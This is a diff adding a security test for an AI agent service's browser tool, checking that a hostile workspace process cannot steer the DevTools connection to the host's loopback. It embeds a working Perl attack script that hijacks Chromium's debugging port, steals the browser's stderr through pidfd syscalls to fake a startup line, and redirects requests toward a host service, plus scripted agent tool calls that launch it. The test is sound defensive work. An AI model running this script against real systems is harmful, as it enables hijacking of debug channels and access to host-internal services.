@@ -1,0 +1,97 @@
+// The browser tools' DevTools channel against a hostile workspace: a process of the workspace
+// looks for the browser's debugging port, binds it first, and tells the service it listens with
+// a line written on the browser's stderr (a copy of that fd taken with pidfd_getfd); what it then
+// answers points at the host's loopback. The service must never connect there, and nothing it
+// read there (nor any detail of a failed start) may reach the model.
+import { after, before, describe, it } from 'node:test'
+import assert from 'node:assert/strict'
+import { spawnSync } from 'node:child_process'
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { useWarren } from './harness.ts'
+import { startModelServer, type FakeModelServer } from './fakes/model-server.ts'
+import { NO_RATE_LIMITS, client, newOrg } from './turns.helpers.ts'
+import { chromiumAvailable } from '../src/tools/browser/browser-hub.ts'
+
+const has = (cmd: string) => spawnSync('sh', ['-c', `command -v ${cmd}`]).status === 0
+const skip = process.getuid?.() !== 0 ? 'needs root (network namespaces)' : !has('ip') ? 'needs ip' : !chromiumAvailable() ? 'needs Chromium' : false
+
+// Waits (30 s at most) for a DevTools port on any command line of the workspace, binds it, finds
+// the browser, writes the fake "listening" line on its stderr, then answers every request with
+// a redirect and a WebSocket address, both on the host's loopback port given.
+const ATTACKER = String.raw`
+use strict; use IO::Socket::INET;
+my ($target) = @ARGV; my $until = time + 30;
+open my $w, '>', '/tmp/attacker.watching'; close $w;
+sub cmdlines { my %c; for my $d (glob '/proc/[0-9]*') { open my $f, '<', "$d/cmdline" or next; local $/; my ($p) = $d =~ /(\d+)$/; $c{$p} = <$f> // '' } %c }
+my ($port, $srv);
+while (!$srv && time < $until) {
+  my %c = cmdlines();
+  for (values %c) { ($port) = /remote-debugging-port=(\d+)/ and last }
+  $srv = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => $port, Listen => 8, ReuseAddr => 1) if $port;
+  select(undef, undef, undef, 0.002) unless $srv;
+}
+exit 0 unless $srv;
+my $told = 0;
+while (!$told && time < $until) {
+  my %c = cmdlines();
+  for my $p (keys %c) {
+    next unless $c{$p} =~ m{^/usr/lib/chromium/chromium\0} && $c{$p} !~ /--type=/;
+    my $pidfd = syscall(434, $p + 0, 0); next if $pidfd < 0;
+    my $fd = syscall(438, $pidfd, 2, 0); next if $fd < 0;
+    open my $err, '>&=', $fd or next;
+    syswrite $err, "DevTools listening on ws://127.0.0.1:$port/devtools/browser/x\n"; $told = 1;
+  }
+  select(undef, undef, undef, 0.01) unless $told;
+}
+while (my $c = $srv->accept) {
+  my $req = ''; sysread $c, $req, 4096;
+  my $ws = "ws://127.0.0.1:$target/devtools/browser/x";
+  my $body = qq({"Browser":"x","webSocketDebuggerUrl":"$ws"});
+  if ($req =~ m{^GET /json/version}) { print $c "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " . length($body) . "\r\nConnection: close\r\n\r\n$body" }
+  else { print $c "HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:$target/metrics\r\nContent-Length: 0\r\nConnection: close\r\n\r\n" }
+  close $c;
+}
+`
+
+describe('the browser’s DevTools channel against the workspace [sqlite]', { skip }, () => {
+  const w = useWarren('sqlite', { env: { ...NO_RATE_LIMITS, WARREN_IDLE_PAUSE_MS: '600000' } })
+  let fake: FakeModelServer
+  // A listener on the host's loopback that the service can reach and the workspace must never read.
+  let secret: http.Server
+  const reached: string[] = []
+  before(async () => {
+    fake = await startModelServer({ models: ['m1'] })
+    secret = http.createServer((req, res) => {
+      reached.push(`${req.method} ${req.url}`)
+      res.writeHead(200, { 'content-type': 'text/plain' }).end('host-secret-bytes')
+    })
+    await new Promise<void>((resolve) => secret.listen(0, '127.0.0.1', resolve))
+  })
+  after(() => {
+    fake?.close()
+    secret?.close()
+  })
+
+  it('a workspace process that takes the debugging port and fakes the browser’s stderr leads the service nowhere', async () => {
+    const c = client(w(), await newOrg(w()))
+    await c.connect(fake, 'openai')
+    const sid = await c.session()
+    const target = (secret.address() as AddressInfo).port
+    const start = `cat > /tmp/attacker.pl <<'EOF'\n${ATTACKER}\nEOF\n(setsid perl /tmp/attacker.pl ${target} >/dev/null 2>&1 &)\nwhile [ ! -e /tmp/attacker.watching ]; do sleep 0.05; done; echo watching`
+    fake.script(
+      { toolCalls: [{ id: 'call_a', name: 'bash', args: { command: start } }] },
+      { toolCalls: [{ id: 'call_b', name: 'browse', args: { url: 'http://127.0.0.1:8000/' } }] },
+      { text: 'ok' },
+    )
+    const before = fake.modelRequests.length
+    const turn = await c.accept(sid, 'open it')
+    assert.equal((await c.settled(sid, turn.id, 120_000)).status, 'completed')
+    assert.match(fake.modelRequests[before + 1]!.toolResults.at(-1)!.content, /watching/, 'control: the attacker ran')
+    const browsed = fake.modelRequests[before + 2]!.toolResults.at(-1)!.content
+    assert.deepEqual(reached, [], 'the service connected to the host’s loopback')
+    assert.ok(!browsed.includes('host-secret-bytes') && !browsed.includes(`:${target}`), browsed)
+    // The browser works: the page is refused by the network policy, as any loopback address is.
+    assert.match(browsed, /network policy refused/, browsed)
+  })
+})
